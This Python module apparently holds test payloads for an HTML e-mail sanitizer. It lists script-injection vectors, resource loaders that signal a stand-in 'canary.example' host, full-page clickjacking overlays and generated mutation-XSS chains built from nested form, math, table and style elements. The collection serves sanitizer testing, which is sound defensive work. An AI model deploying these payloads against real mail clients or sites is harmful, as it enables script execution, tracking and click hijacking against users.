"""What a mail may try: each tells the canary its name, or changes what it can reach."""

from __future__ import annotations

_AT = "http://canary.example/"
_OWN = "try{parent.document.title='owned'}catch(e){} top.postMessage('owned','*'); alert('owned');"

# Whatever would load or connect by itself.
LOADS: dict[str, str] = {
    "script": f"<script>{_OWN} fetch('{_AT}script')</script><p>script</p>",
    "script-src": f'<script src="{_AT}script-src"></script>',
    "module": f'<script type=module>import "{_AT}module"</script>',
    "svg-script": f"<svg><script href='{_AT}svg-script'>{_OWN}</script></svg>",
    "onerror": f"<img src=data:, onerror=\"{_OWN} new Image().src='{_AT}onerror'\">",
    "onload": f'<body onload="location=\'{_AT}onload\'"><style onload="{_OWN}"></style>',
    "autofocus": f"<input autofocus onfocus=\"{_OWN} location='{_AT}autofocus'\">",
    "javascript-frame": f'<iframe src="javascript:{_OWN}"></iframe>',
    "animation": "<style>@keyframes x{}</style>"
    f'<p style="animation:x 1s" onanimationstart="{_OWN}">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={_AT}meta-refresh">',
    "meta-refresh-body": f"<p>x<META HTTP-EQUIV=REFRESH CONTENT='0; URL={_AT}meta-refresh-body'>",
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,<p>gone">',
    "base": f'<base href="{_AT}base/"><img src="picture.png"><link rel=stylesheet href=x.css>',
    "img": f'<img src="{_AT}img"><img srcset="{_AT}srcset 1x">',
    "img-relative": '<img src="//canary.example/img-relative">',
    "picture": f'<picture><source srcset="{_AT}picture"><img src="data:,"></picture>',
    "input-image": f'<input type="image" src="{_AT}input-image">',
    "background": f'<body background="{_AT}background"><table background="{_AT}background-2">',
    "style-url": f"<p style=\"background:url('{_AT}style-url');height:9px\">x</p>",
    "style-import": f"<style>@import '{_AT}style-import';</style>",
    "style-image-set": f"<style>body{{background:image-set('{_AT}image-set' 1x)}}</style>",
    "font": f"<style>@font-face{{font-family:f;src:url({_AT}font)}} p{{font:9px f}}</style><p>x",
    "cursor": f"<style>*{{cursor:url({_AT}cursor),auto;list-style:url({_AT}list)}}</style><li>x",
    "link-stylesheet": f'<link rel="stylesheet" href="{_AT}link-stylesheet">',
    "link-preload": f'<link rel="preload" as="image" href="{_AT}link-preload">',
    "link-prefetch": f'<link rel="prefetch" href="{_AT}link-prefetch">',
    "link-preconnect": f'<link rel="preconnect" href="{_AT}">'
    f'<link rel="dns-prefetch" href="{_AT}">',
    "link-modulepreload": f'<link rel="modulepreload" href="{_AT}modulepreload">',
    "link-prerender": f'<link rel="prerender" href="{_AT}prerender">',
    "link-icon": f'<link rel="icon" href="{_AT}icon"><link rel="manifest" href="{_AT}manifest">',
    "link-in-shadow": "<div><template shadowrootmode=open>"
    f'<link rel="preconnect" href="{_AT}"><img src="{_AT}shadow"></template></div>',
    "link-read-twice": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--><link rel=preconnect href={_AT}><script>{_OWN}</script>">',
    "speculation": '<script type="speculationrules">'
    f'{{"prefetch":[{{"urls":["{_AT}speculation"]}}]}}</script>',
    "iframe": f'<iframe src="{_AT}iframe"></iframe><frameset><frame src="{_AT}frame"></frameset>',
    "iframe-srcdoc": f"<iframe srcdoc=\"<script>{_OWN}</script><img src='{_AT}srcdoc'>\"></iframe>",
    "object": f'<object data="{_AT}object"></object><embed src="{_AT}embed">',
    "media": f'<video src="{_AT}video" poster="{_AT}poster" autoplay></video>'
    f'<audio src="{_AT}audio" autoplay></audio><video><track src="{_AT}track" default></video>',
    "svg": f'<svg><image href="{_AT}svg"/><use href="{_AT}use#x"/><feImage href="{_AT}fe"/></svg>',
    "svg-animate": f'<svg><image><animate attributeName=href values="{_AT}animate"/></image></svg>',
    "svg-filter": f'<style>p{{filter:url("{_AT}filter#x");mask:url({_AT}mask)}}</style><p>x',
    "attribution": f'<img src="data:," attributionsrc="{_AT}attribution">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">'
    f'<img src="{_AT}policy">',
    "unclosed": f"<p>x<img src='{_AT}unclosed'><style>p{{}}</title></iframe></textarea>-->"
    f"<script>{_OWN}",
    "ends-the-page": f"</iframe></script></article><script>{_OWN}</script><img src={_AT}ends>",
}

_ALL = "position:fixed;inset:0;display:block;width:100%;height:100%"

# Whatever acts when it is clicked, and covers the whole frame so that it is.
CLICKS: dict[str, str] = {
    "link": f'<a style="{_ALL}" href="{_AT}link">x</a>',
    "link-self": f'<a style="{_ALL}" target="_self" href="{_AT}link-self">x</a>',
    "link-top": f'<a style="{_ALL}" target="_top" href="{_AT}link-top">x</a>',
    "link-blank": f'<a style="{_ALL}" target="_blank" href="{_AT}link-blank">x</a>',
    "link-ping": f'<a style="{_ALL}" href="#" ping="{_AT}ping">x</a>',
    "link-script": f'<a style="{_ALL}" href="javascript:{_OWN}">x</a>',
    "link-download": f'<a style="{_ALL}" href="{_AT}link-download" download>x</a>',
    "link-data": f'<a style="{_ALL}" href="data:text/html,<p>gone">x</a>',
    "link-svg": f'<svg style="{_ALL}"><a href="{_AT}svg" xlink:href="{_AT}svg">'
    '<rect width="2000" height="2000"/></a></svg>',
    "form": f'<form action="{_AT}form"><input name=a value=b>'
    f'<button style="{_ALL}">x</button></form>',
    "form-top": f'<form action="{_AT}form-top" method=post target=_top>'
    f'<button style="{_ALL}">x</button></form>',
    "formaction": f'<form><button style="{_ALL}" formtarget=_self formaction="{_AT}formaction">x'
    "</button></form>",
    "onclick": f'<p style="{_ALL}" onclick="{_OWN}">x</p>',
    "map": f'<img src="data:," style="{_ALL}" usemap=#m width=900 height=900>'
    f'<map name=m><area shape=default target=_self href="{_AT}map"></map>',
}


def _forms(times: int, inner: str) -> str:
    """Markup that turns into `inner` after so many readings and one more.

    A form within a form is dropped by the next reading, so what stood in it stands in MathML, where
    a style element holds markup and not text.
    """
    return "<form><math><mtext></form><form><mglyph><style></math>" * times + inner


def _tables(times: int, inner: str) -> str:
    """The same with what a table moves out before itself."""
    return "<math><mtext><table><mglyph><style></math>" * times + inner


def _comments(times: int, inner: str) -> str:
    """The same with attributes that end a comment, which begins once a style holds markup."""
    inner = inner.replace('"', "'")
    for depth in range(times):
        quote = "&quot;" if depth % 2 else '"'
        inner = (
            "<math><mtext><table><mglyph><style><!--</style>"
            f"<img title={quote}--></style></table></math>{inner}{quote}>"
        )
    return inner


_LINK = f'<link rel=preconnect href="{_AT}"><link rel=dns-prefetch href="{_AT}">'
_SCRIPT = f"<script>{_OWN} new Image().src='{_AT}script'</script>"

# Markup that is other markup each time it is read.
CHANGES: dict[str, str] = {
    "forms-2": _forms(2, _LINK),
    "forms-3-script": _forms(3, _SCRIPT),
    "forms-9": _forms(9, _LINK + _SCRIPT),
    "tables-2": _tables(2, _LINK),
    "tables-4-svg": _tables(4, f"<svg><script>{_OWN}</script><a href={_AT}>{_LINK}"),
    "forms-in-tables": _tables(1, _forms(2, _LINK)),
    "tables-in-forms": _forms(2, _tables(2, _LINK)),
    "removed-between": _forms(1, f"<template></template>{_forms(2, _LINK)}"),
    "in-a-paragraph": f"<p>{_forms(2, f'<table><p>{_LINK}')}",
    "noscript": _forms(1, f'<noscript><p title="</noscript>{_LINK}">{_forms(1, _LINK)}'),
    "newlines": f"<pre>{chr(10) * 5}{_forms(2, _LINK)}",
    "animated": _forms(2, f"<svg><a href=#><animate attributeName=href values={_AT}>{_LINK}"),
}
# Some that never come to rest, or not for long.
RESTLESS: dict[str, str] = {
    "forms-40": _forms(40, _LINK),
    "tables-40": _tables(40, _LINK),
    "plaintext": f"<p>x{_forms(20, '<plaintext>')}{_LINK}",
}

LOADS |= {
    "style-escaped": f"<style>body{{background:\\75 rl({_AT}escaped)}}</style>",
    "style-import-bare": f"<style>@import url({_AT}import-url) screen;</style>"
    f"<style>@\\69mport '{_AT}import-escaped';</style>",
    "style-shapes": f"<style>p{{shape-outside:url({_AT}shape);clip-path:url({_AT}clip#x);"
    f"offset-path:url({_AT}offset#x);border-image:url({_AT}border) 1}}</style><p>x",
    "style-content": f"<style>p::before{{content:url({_AT}content)}}"
    f"@counter-style c{{system:cyclic;symbols:url({_AT}symbols)}}"
    f"@namespace url({_AT}namespace);</style><p>x",
    "style-image-set-old": f"<p style='background:-webkit-image-set(url({_AT}set) 1x),"
    f"-webkit-cross-fade(url({_AT}fade),url({_AT}fade-2),50%)'>x",
    "svg-fill": f"<svg><rect width=9 height=9 fill='url({_AT}fill#x)' cursor='url({_AT}c),auto'/>"
    f"<path d='M0 0H9' style='marker-start:url({_AT}marker#x)'/></svg>",
    "svg-set": f"<svg><image><set attributeName=href to='{_AT}set'/></image>"
    f"<animateTransform/><animateMotion><mpath href='{_AT}mpath'/></animateMotion></svg>",
    "svg-foreign": "<svg><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
    f"src='{_AT}foreign'></iframe><img src='{_AT}foreign-img'></foreignObject></svg>",
    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id='x' "
    f"xmlns='http://www.w3.org/2000/svg'><image href='{_AT}use-data'/></svg>#x\"/></svg>",
    "math-annotation": "<math><annotation-xml encoding='text/html'>"
    f"{_LINK}</annotation-xml></math>",
    "preload-set": f"<link rel=preload as=image imagesrcset='{_AT}imagesrcset 1x' imagesizes=1px>",
    "form-autofocus": f"<form action='{_AT}auto'><input autofocus onfocus='form.submit()'></form>",
    "popover": f'<div popover onbeforetoggle="{_OWN}">x</div>',
    **CHANGES,
    **RESTLESS,
}


def _svg(inner: str, attributes: str = "") -> str:
    """A link that covers everything, and what may change where it leads."""
    link = f'<a href="#x" {attributes}>{inner}<rect width="2000" height="2000"/></a>'
    return f'<svg style="{_ALL}">{link}</svg>'


CLICKS |= {
    "animate": _svg(f'<animate attributeName="href" values="{_AT}animate" fill="freeze"/>'),
    "animate-xlink": _svg(f'<animate attributeName="xlink:href" to="{_AT}xlink" fill="freeze"/>'),
    "set": _svg(f'<set attributeName="href" to="{_AT}set"/>'),
    "set-elsewhere": f'<svg><set href="#it" attributeName="href" to="{_AT}elsewhere"/></svg>'
    + _svg("", 'id="it"'),
    "use": f'<svg><a id="u" href="{_AT}use"><rect width="2000" height="2000"/></a></svg>'
    f'<svg style="{_ALL}"><use href="#u"/></svg>',
    "math": f'<math style="{_ALL}" href="{_AT}math"><mi href="{_AT}mi">x</mi></math>',
}
